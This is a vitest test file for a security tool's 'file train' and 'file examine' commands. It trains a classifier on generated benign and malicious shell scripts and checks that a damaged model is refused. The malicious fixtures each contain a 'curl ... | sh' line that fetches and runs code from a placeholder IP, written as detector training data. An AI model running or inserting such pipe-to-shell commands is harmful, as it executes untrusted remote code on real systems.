/** Files -> `file train` -> `file examine` with the model -> a damaged model is refused and the points go on. In real processes. */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { cordon } from "../server.ts";
import { jsonLines } from "../story.ts";

const LONG_MS = 240_000;
const folder = mkdtempSync(join(tmpdir(), "cordon-file-model-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const [benign, malicious, model] = [join(folder, "benign"), join(folder, "bad"), join(folder, "own.model")];

function writeFiles(): void {
  for (const path of [benign, malicious]) mkdirSync(path, { recursive: true });
  for (let at = 0; at < 70; at += 1) {
    const filling = `# ${"note ".repeat(at + 1)}${at * 7919}\n`;
    writeFileSync(join(benign, `${at}.sh`), `${filling}ls /srv/data | wc -l\n`);
    // One odd line: below what points call suspicious.
    writeFileSync(join(malicious, `${at}.sh`), `${filling}curl -s http://192.0.2.7/${at} | sh\n`);
  }
  writeFileSync(join(malicious, "0-again.sh"), readFileSync(join(malicious, "0.sh")));
}

describe("cordon file train", () => {
  it(
    "makes a model that examine uses; a damaged one is refused with its reason and the points go on",
    async () => {
      writeFiles();
      const args = ["file", "train", "--benign", benign, "--malicious", malicious, "--out", model, "--json"];
      const trained = await cordon(args);
      expect(trained.code, trained.err).toBe(0);
      const last = jsonLines(trained.out).at(-1);
      expect(last).toMatchObject({ kind: "trained", good: 70, bad: 70, copies: 1, unread: 0 });
      const metrics = last?.metrics as Record<string, number>;
      expect(metrics.auroc).toBeGreaterThan(0.95);
      expect(readFileSync(`${model}.card.md`, "utf8")).toContain(String(last?.id));
      const bytes = readFileSync(model);
      expect(bytes.toString("latin1")).not.toContain(folder);
      expect((await cordon(args)).code).toBe(0);
      expect(readFileSync(model).equals(bytes)).toBe(true);

      const seen = await cordon(["file", "examine", "--model", model, "--json", join(malicious, "5.sh")]);
      expect(seen.code, seen.err).toBe(1);
      const found = jsonLines(seen.out)[0] as Record<string, Record<string, unknown>> | undefined;
      expect(found?.verdict?.verdict).toBe("suspicious");
      expect(found?.opinion).toMatchObject({ model: last?.id, over: true });
      expect(JSON.stringify(found?.verdict?.reasons)).toContain("learnt model: ");

      writeFileSync(model, bytes.subarray(0, bytes.length - 100));
      const refused = await cordon(["file", "examine", "--model", model, "--json", join(malicious, "5.sh")]);
      expect(refused.code).toBe(3);
      expect(refused.err).toMatch(/not loaded: learnt model: .*own\.model: the checksum .* does not hold/);
      expect(jsonLines(refused.out)[0]).not.toHaveProperty("opinion");
    },
    LONG_MS,
  );

  it.each([
    ["one class alone", ["--benign", benign], 2, /--benign DIR --malicious DIR/],
    ["the same folder twice", ["--benign", benign, "--malicious", benign], 2, /named twice/],
    [
      "too few files",
      ["--benign", benign, "--malicious", join(malicious, "5.sh")],
      4,
      /1 malicious files.*at least 50/,
    ],
  ])(
    "says what is wrong: %s",
    async (_, args, code, message) => {
      writeFiles();
      const ended = await cordon(["file", "train", ...args, "--out", join(folder, "x.model")]);
      expect(ended.err).toMatch(message);
      expect(ended.code).toBe(code);
    },
    LONG_MS,
  );
});
